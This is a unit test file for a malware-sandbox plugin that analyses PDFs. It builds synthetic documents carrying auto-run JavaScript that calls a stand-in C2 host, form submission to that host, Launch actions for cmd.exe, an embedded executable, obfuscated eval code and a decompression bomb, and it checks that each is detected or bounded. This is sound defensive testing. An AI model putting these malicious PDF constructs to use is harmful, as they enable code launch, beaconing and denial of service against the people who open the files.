"""What a PDF document would do, read without showing it."""

import contextlib
import io
import zlib
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfWriter

from malbox.sdk import PluginFailure, PluginSkipped
from malbox.sdk.testing import Emitted, run_plugin
from services.plugins.builtin.pdf import document, plugin
from tests.unit.plugins.conftest import MakeSample
from tests.unit.plugins.mutations import mutations

SCRIPT = "app.alert('hello'); this.getURL('http://c2.example/a');"


def pdf(catalogue: str = "", *objects: bytes | str, page: str = "") -> bytes:
    """A document of one empty page, with more in its catalogue and its page, and more objects from number 4 on."""
    bodies: list[bytes] = [
        f"<< /Type /Catalog /Pages 2 0 R {catalogue} >>".encode(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] {page} >>".encode(),
        *(one.encode() if isinstance(one, str) else one for one in objects),
    ]
    content, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(content))
        content += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(content)
    content += b"xref\n0 %d\n0000000000 65535 f \n%b" % (len(bodies) + 1, table)
    return content + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, start)


def stream(content: bytes, more: str = "") -> bytes:
    packed = zlib.compress(content)
    return b"<< /Length %d /Filter /FlateDecode %b >>\nstream\n%b\nendstream" % (len(packed), more.encode(), packed)


def with_file(name: str, content: bytes) -> bytes:
    return pdf(
        f"/Names << /EmbeddedFiles << /Names [({name}) 4 0 R] >> >>",
        f"<< /Type /Filespec /F ({name}) /UF ({name}) /EF << /F 5 0 R >> >>",
        stream(content, "/Type /EmbeddedFile"),
    )


OPENS = pdf("/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", stream(SCRIPT.encode()))
TREE = pdf("/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "<< /S /JavaScript /JS (app.beep) >>")


def encrypted(password: str) -> bytes:
    writer = PdfWriter(clone_from=io.BytesIO(OPENS))
    writer.encrypt(password, algorithm="AES-256")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def read(sample: Path, scratch: Path, **config: object) -> Emitted:
    return run_plugin(plugin.run, sample, scratch=scratch, config=config)


def traits(said: Any) -> set[str]:
    return {one["name"] for one in said["traits"]}


def test_a_script_is_decoded_with_what_starts_it(make_sample: MakeSample, tmp_path: Path) -> None:
    """Out of a compressed stream; its URL is an indicator."""
    said = read(make_sample(OPENS), tmp_path).json("pdf")
    assert [(one["trigger"], one["text"]) for one in said["scripts"]] == [("OpenAction", SCRIPT)]
    assert "c2.example" in {one["value"] for one in said["indicators"]}
    assert (said["version"], said["revisions"], said["counts"]["pages"]) == ("1.7", 1, 1)
    assert said["problems"] == []


@pytest.mark.parametrize(
    ("content", "trait"),
    [
        (OPENS, "pdf_script_on_open"),
        (TREE, "pdf_script_on_open"),
        (pdf("/AA << /WC << /S /JavaScript /JS (x) >> >>"), "pdf_script_on_open"),
        (pdf("", page="/AA << /O << /S /JavaScript /JS (x) >> >>"), "pdf_script_on_open"),
        (pdf("/OpenAction << /S /GoTo /Next << /S /JavaScript /JS (x) >> >>"), "pdf_script_on_open"),
        (pdf("", "<< /Type /Annot /A << /S /JavaScript /JS (x) >> >>"), "pdf_script"),
        (pdf("", "<< /S /JavaScript /JS (x) >>"), "pdf_script"),
        (pdf("/OpenAction << /S /Launch /F (cmd.exe) >>"), "pdf_launch"),
        (pdf("/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "pdf_launch"),
        (pdf("/OpenAction << /S /#4caunch /F (cmd.exe) >>"), "pdf_names_disguised"),
        (pdf("/OpenAction << /S /#4caunch /F (cmd.exe) >>"), "pdf_launch"),
        (pdf("", "<< /S /SubmitForm /F (http://c2.example/a) >>"), "pdf_reaches_out"),
        (pdf("/OpenAction << /S /GoToR /F (\\\\\\\\192.0.2.1\\\\a.pdf) >>"), "pdf_reaches_out"),
        (with_file("invoice.exe", b"MZ"), "embedded_program"),
        (encrypted("unknown to all"), "document_encrypted"),
        (b"junk\n" + pdf(), "pdf_malformed"),
        (pdf() + b"x" * 1000, "pdf_malformed"),
        (pdf().replace(b"startxref\n", b"startxref\n9"), "pdf_malformed"),
    ],
)
def test_what_a_document_would_do_is_a_trait(
    content: bytes, trait: str, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Each in a document that holds nothing else."""
    assert trait in traits(read(make_sample(content), tmp_path).json("pdf"))


@pytest.mark.parametrize(
    "content",
    [
        pdf(),
        pdf("", "<< /Type /Annot /A << /S /URI /URI (https://a.example/) >> >>"),
        pdf("/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
        with_file("notes.txt", b"hello"),
    ],
)
def test_an_ordinary_document_has_no_trait(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Control of the traits: a link, a place to begin at and an attached text are what documents have."""
    said = read(make_sample(content), tmp_path).json("pdf")
    assert (said["traits"], said["problems"]) == ([], [])


def test_a_link_is_an_indicator(make_sample: MakeSample, tmp_path: Path) -> None:
    """With the kind of action that leads there."""
    said = read(make_sample(pdf("", "<< /A << /S /URI /URI (https://a.example/x) >> >>")), tmp_path).json("pdf")
    assert said["actions"][0]["target"] == "https://a.example/x"
    assert {"kind": "url", "value": "https://a.example/x", "context": "URI of object 4"} in said["indicators"]


def test_an_embedded_file_is_a_child(make_sample: MakeSample, tmp_path: Path) -> None:
    """Under a name of ours; its own is told."""
    emitted = read(make_sample(with_file("../note.txt", b"hello")), tmp_path)
    [child] = emitted.json("pdf")["children"]
    assert emitted.content[child["name"]] == b"hello"
    assert child["path"].endswith("../note.txt")


@pytest.mark.parametrize("config", [{}, {"password": "own"}])
def test_an_encrypted_document_is_read_with_its_password(
    config: dict[str, str], make_sample: MakeSample, tmp_path: Path
) -> None:
    """That of the submission, or a customary one."""
    sample = make_sample(encrypted(config.get("password", "infected")))
    said = read(sample, tmp_path, **config).json("pdf")
    assert said["is_encrypted"]
    assert said["password"] == config.get("password", "infected")
    assert said["scripts"][0]["text"] == SCRIPT


def test_objects_in_object_streams_are_seen(make_sample: MakeSample, tmp_path: Path) -> None:
    """Where scanners of bytes are blind."""
    head = b"9 0 "
    packed = stream(head + b"<< /S /JavaScript /JS (hidden) >>", f"/Type /ObjStm /N 1 /First {len(head)}")
    content = pdf("", packed)
    start = len(content)
    rows = bytes([1, 0, 0, 0, 0]) + bytes([2, 0, 0, 4, 0])
    table = zlib.compress(rows)
    content += (
        b"10 0 obj\n<< /Type /XRef /Size 11 /Index [8 2] /W [1 3 1] /Root 1 0 R /Prev %d /Length %d "
        b"/Filter /FlateDecode >>\nstream\n%b\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n"
        % (content.rindex(b"xref\n0"), len(table), table, start)
    )
    said = read(make_sample(content), tmp_path).json("pdf")
    assert "hidden" in {one["text"] for one in said["scripts"]}
    assert said["counts"]["object_streams"] == 1


@pytest.mark.promise("P38")
@pytest.mark.parametrize(
    "content",
    [
        pdf("/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", stream(bytes(200_000_000))),
        pdf("/Names << /JavaScript 4 0 R >>", "<< /Kids [4 0 R 4 0 R] >>"),
        pdf("/OpenAction 4 0 R", "<< /S /GoTo /Next 4 0 R >>"),
        pdf("/OpenAction 4 0 R", "4 0 R"),
        pdf("", "[" * 20_000 + "]" * 20_000),
        pdf("", *(["<< /S /URI /URI (http://c2.example/) >>"] * 3000)),
        pdf().replace(b"/Root 1 0 R", b"/Root 99 0 R"),
        pdf().replace(b"/Size 4", b"/Size 4 /Prev 9"),
    ],
    ids=[
        "a bomb",
        "a tree in a circle",
        "actions in a circle",
        "itself",
        "nesting",
        "many actions",
        "no root",
        "a bad table",
    ],
)
def test_what_never_ends_is_cut(content: bytes, make_sample: MakeSample, tmp_path: Path) -> None:
    """Circles, depth and bombs end at a bound."""
    with contextlib.suppress(PluginFailure):
        said = read(make_sample(content), tmp_path).json("pdf")
        assert len(said["actions"]) <= document.ACTIONS_MAX
        assert len(str(said)) < 1_000_000
        assert not any("processor time" in words for words in said["problems"])


def test_other_files_are_skipped(make_sample: MakeSample, tmp_path: Path) -> None:
    """Not an error: there is nothing to do."""
    with pytest.raises(PluginSkipped):
        read(make_sample(b"hello"), tmp_path)


def test_what_only_begins_like_a_document_fails_in_words(make_sample: MakeSample, tmp_path: Path) -> None:
    """The analyst reads that it is corrupted."""
    with pytest.raises(PluginFailure):
        read(make_sample(b"%PDF-1.7\nnothing"), tmp_path)


@pytest.mark.parametrize("content", [OPENS, TREE, with_file("a.exe", b"MZ" * 50), encrypted("infected")])
def test_a_damaged_document_is_a_failure_or_a_part_never_a_crash(
    content: bytes, make_sample: MakeSample, tmp_path: Path
) -> None:
    """Cut and flipped in many places: bounded output, or a failure in words."""
    for damaged in mutations(content, 200, "pdf"):
        with contextlib.suppress(PluginFailure, PluginSkipped):
            assert len(read(make_sample(damaged), tmp_path).json("pdf")["actions"]) <= document.ACTIONS_MAX


def test_the_scripts_of_a_document_come_out(make_sample: MakeSample, tmp_path: Path) -> None:
    """Together, each once, so that a plugin for scripts unfolds them; a short one is shown whole and is no child."""
    long = "var a = unescape('%61%6c%65%72%74'); var b = a + '(1)'; eval(b + '//' + a);"
    content = pdf(
        "/OpenAction << /S /JavaScript /JS 4 0 R >> /AA << /WC << /S /JavaScript /JS (app.beep) >> >>",
        stream(long.encode()),
    )
    emitted = read(make_sample(content), tmp_path)
    [child] = emitted.json("pdf")["children"]
    assert child["path"] == "2 scripts > scripts.js"
    assert set(emitted.content[child["name"]].decode().split("\n")) == {long, "app.beep"}
    assert read(make_sample(TREE), tmp_path).json("pdf")["children"] == []
